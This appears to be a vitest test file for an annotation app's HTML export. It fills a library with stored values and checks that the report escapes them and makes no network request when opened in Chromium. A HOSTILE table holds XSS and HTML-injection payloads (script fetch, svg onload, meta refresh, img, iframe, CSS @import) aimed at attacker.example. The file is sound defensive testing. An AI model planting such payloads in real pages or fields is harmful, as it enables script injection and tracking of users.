/**
 * F2: the HTML report with a hostile library. The library is filled the way an older Gloss's
 * `annotations.restore` (which stored whatever it was sent) or a hand-edited file could fill it:
 * a colour holding `"><meta http-equiv=refresh …>`, ids, notes, quotes, tags, titles, authors and
 * block text holding markup that would fetch (img, link, base, iframe, CSS url()), and, past the
 * CHECK constraints, a block direction and a language holding attributes. The report must:
 * - hold no element, attribute or class that the report itself does not write (parsed with
 *   htmlparser2, checked against a closed list);
 * - draw colours from the palette only;
 * - make no request when opened in Chromium (every request recorded and refused), scripts on.
 */
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { Parser } from 'htmlparser2';
import { chromium } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { COLORS } from '../../src/common/model.js';
import { escapeHtml } from '../../src/common/export/html-report.js';
import { colorClass, colorRule, paletteColor } from '../../src/common/export/palette.js';
import { exportAnnotations } from '../../src/main/export/export-service.js';
import { Library } from '../../src/main/library.js';
import { seedFiles, tempDir } from '../helpers.js';

const CHROMIUM = '/usr/bin/chromium';
const hasChromium = fs.existsSync(CHROMIUM);
const EVIL = 'attacker.example';

/** Values that would make a request if they reached the markup raw. */
const HOSTILE = {
  color: `"><meta http-equiv="refresh" content="0;url=http://${EVIL}/meta">`,
  color2: `yellow" style="background:url(http://${EVIL}/style.png)`,
  id: `x"><link rel="stylesheet" href="http://${EVIL}/id.css">`,
  note: `</p><img src="http://${EVIL}/note.png"><script>fetch('http://${EVIL}/script')</script>`,
  exact: `<iframe src="http://${EVIL}/frame"></iframe>`,
  tag: `tag<svg onload="fetch('http://${EVIL}/svg')">`,
  title: `<base href="http://${EVIL}/">Title`,
  source: `<object data="http://${EVIL}/obj"></object>.txt`,
  author: `<video poster="http://${EVIL}/poster.png">`,
  created: `yesterday"><img src="http://${EVIL}/created.png">`,
  block: `<img src=http://${EVIL}/block.png> <style>@import url(http://${EVIL}/import.css)</style>`,
  dir: `rtl" style="background-image:url(http://${EVIL}/dir.png)`,
  language: `he" style="background:url(http://${EVIL}/lang.png)`,
};

/** What the report writes, and nothing more. */
const ELEMENTS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'header', 'main', 'footer', 'article', 'section', 'h1', 'h2', 'h3', 'p', 'blockquote', 'mark', 'ol', 'li', 'span', 'bdi']);
const ATTRIBUTES = new Set(['lang', 'dir', 'charset', 'http-equiv', 'content', 'name', 'class', 'title', 'id', 'value']);
const CLASSES = new Set(['report', 'meta', 'doc', 'text', 'annotations', 'passage', 'tags', 'tag', 'note', 'orphan', 'ov', 'd1', 'd2', 'd3', 'd4', ...COLORS.map((c) => `gloss-${c}`)]);

async function hostileLibrary(): Promise<Library> {
  const lib = Library.open(tempDir('gloss-hostile-'));
  await lib.importPaths(seedFiles());
  const [he, en] = lib.list();
  lib.annotate(he!.id, { quote: 'פוטין', nth: 1 }, { note: 'a normal note', tags: ['claim'] });
  lib.annotate(en!.id, { quote: 'Putin', nth: 1 }, { color: 'green' });
  const db = lib.db;
  const now = '2026-01-01T00:00:00.000Z';
  const insert = db.prepare('INSERT INTO annotations (id, document_id, start, end, exact, prefix, suffix, color, note, status, created, modified, author) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)');
  // As an older `annotations.restore` stored them: no checks at all.
  insert.run(HOSTILE.id, he!.id, 10, 20, HOSTILE.exact, HOSTILE.note, HOSTILE.note, HOSTILE.color, HOSTILE.note, 'anchored', HOSTILE.created, 'later', HOSTILE.author);
  insert.run('b', en!.id, 30, 45, 'plain', '', '', HOSTILE.color2, HOSTILE.note, 'orphaned', now, now, '');
  const rid = (db.prepare('SELECT rid FROM annotations WHERE id = ?').get(HOSTILE.id) as { rid: number }).rid;
  db.prepare('INSERT INTO tags (path) VALUES (?)').run(HOSTILE.tag);
  const tagId = (db.prepare('SELECT id FROM tags WHERE path = ?').get(HOSTILE.tag) as { id: number }).id;
  db.prepare('INSERT INTO annotation_tags (annotation_rid, tag_id) VALUES (?, ?)').run(rid, tagId);
  db.prepare('UPDATE documents SET title = ?, source_name = ? WHERE id = ?').run(HOSTILE.title, HOSTILE.source, he!.id);
  // Past the CHECK constraints, as a hand-edited or damaged file could be.
  db.pragma('ignore_check_constraints = ON');
  const hostileBlock = db.prepare('SELECT id FROM blocks WHERE document_id = ? AND idx = 1').pluck().get(he!.id);
  db.prepare('UPDATE block_texts SET text = ? || text WHERE id = ?').run(HOSTILE.block, hostileBlock);
  db.prepare('UPDATE blocks SET dir = ? WHERE id = ?').run(HOSTILE.dir, hostileBlock);
  db.prepare('UPDATE documents SET language = ? WHERE id = ?').run(HOSTILE.language, en!.id);
  db.pragma('ignore_check_constraints = OFF');
  return lib;
}

async function report(lib: Library): Promise<string> {
  let html = '';
  await exportAnnotations(lib, { format: 'html' }, (chunk) => {
    html += chunk;
  });
  return html;
}

describe('the HTML report of a hostile library (F2)', () => {
  let html = '';
  let file = '';

  beforeAll(async () => {
    const lib = await hostileLibrary();
    html = await report(lib);
    lib.close();
    file = path.join(tempDir('gloss-hostile-out-'), 'report.html');
    fs.writeFileSync(file, html);
  });

  it('writes only the elements, attributes and classes of the report; every hostile value is text', () => {
    const found = { elements: new Set<string>(), attributes: new Set<string>(), classes: new Set<string>() };
    const metas: Record<string, string>[] = [];
    let inStyle = false;
    let css = '';
    new Parser(
      {
        ontext(text) {
          if (inStyle) css += text;
        },
        onclosetag(name) {
          if (name === 'style') inStyle = false;
        },
        onopentag(name, attrs) {
          if (name === 'style') inStyle = true;
          found.elements.add(name);
          for (const a of Object.keys(attrs)) found.attributes.add(a);
          for (const c of (attrs.class ?? '').split(/\s+/).filter(Boolean)) found.classes.add(c);
          if (name === 'meta') metas.push(attrs);
          if (attrs.dir !== undefined) expect(['rtl', 'ltr', 'auto']).toContain(attrs.dir);
          if (attrs.lang !== undefined) expect(['he', 'en']).toContain(attrs.lang);
        },
      },
      { decodeEntities: true },
    ).end(html);
    expect([...found.elements].filter((e) => !ELEMENTS.has(e))).toEqual([]);
    expect([...found.attributes].filter((a) => !ATTRIBUTES.has(a))).toEqual([]);
    expect([...found.classes].filter((c) => !CLASSES.has(c))).toEqual([]);
    // The only http-equiv is the report's own Content-Security-Policy.
    expect(metas.filter((m) => m['http-equiv'] !== undefined).map((m) => m['http-equiv'])).toEqual(['Content-Security-Policy']);
    expect(html).not.toMatch(/<(img|link|base|iframe|script|svg|object|video)\b/i);
    // The one stylesheet is the report's own: nothing in it fetches.
    expect(css.length).toBeGreaterThan(1000);
    expect(css).not.toMatch(/url\(|@import|attacker/);
    // Shown, escaped, for a person to see.
    expect(html).toContain(escapeHtml(HOSTILE.note));
    expect(html).toContain(escapeHtml(HOSTILE.title));
  });

  it.skipIf(!hasChromium)('makes no request when opened in Chromium, scripts on (needs /usr/bin/chromium)', async () => {
    const browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-background-networking', '--disable-gpu', '--disable-component-update', '--no-first-run'] });
    try {
      const context = await browser.newContext({ javaScriptEnabled: true });
      const url = pathToFileURL(file).href;
      const requests: string[] = [];
      await context.route('**/*', (route) => {
        if (route.request().url() !== url) {
          requests.push(route.request().url());
          return route.abort();
        }
        return route.continue();
      });
      const page = await context.newPage();
      page.on('request', (r) => {
        if (r.url() !== url) requests.push(r.url());
      });
      await page.goto(url, { waitUntil: 'load' });
      // Long enough for a meta refresh of 0 s, an image or a stylesheet to have been asked for.
      await page.waitForTimeout(1500);
      expect(requests).toEqual([]);
      expect(page.url()).toBe(url);
      // Every mark has a palette colour behind it (the hostile colours drawn as the default).
      const backgrounds = await page.$$eval('mark', (els) => [...new Set(els.map((e) => getComputedStyle(e).backgroundColor))]);
      expect(backgrounds.length).toBeGreaterThan(0);
      for (const bg of backgrounds) expect(bg).not.toMatch(/^(transparent|rgba\(0, 0, 0, 0\))$/);
      await context.close();
    } finally {
      await browser.close();
    }
  });
});

describe('the palette takes stored values as untrusted', () => {
  it.each([HOSTILE.color, HOSTILE.color2, '', 'Yellow', 'red', 'gloss-green', null, undefined, 42, { toString: () => 'green' }])('draws %j as a palette colour', (value) => {
    const c = paletteColor(value);
    expect(COLORS).toContain(c);
    expect(colorClass(value as string)).toMatch(/^gloss-(yellow|green|blue|pink|purple|orange)$/);
    expect(colorRule(value as string)).toMatch(/^\.gloss-[a-z]+ \{ background-color: #[0-9a-f]{6}; \}$/);
  });

  it('keeps every palette colour as it is', () => {
    for (const c of COLORS) expect([paletteColor(c), colorClass(c)]).toEqual([c, `gloss-${c}`]);
  });
});
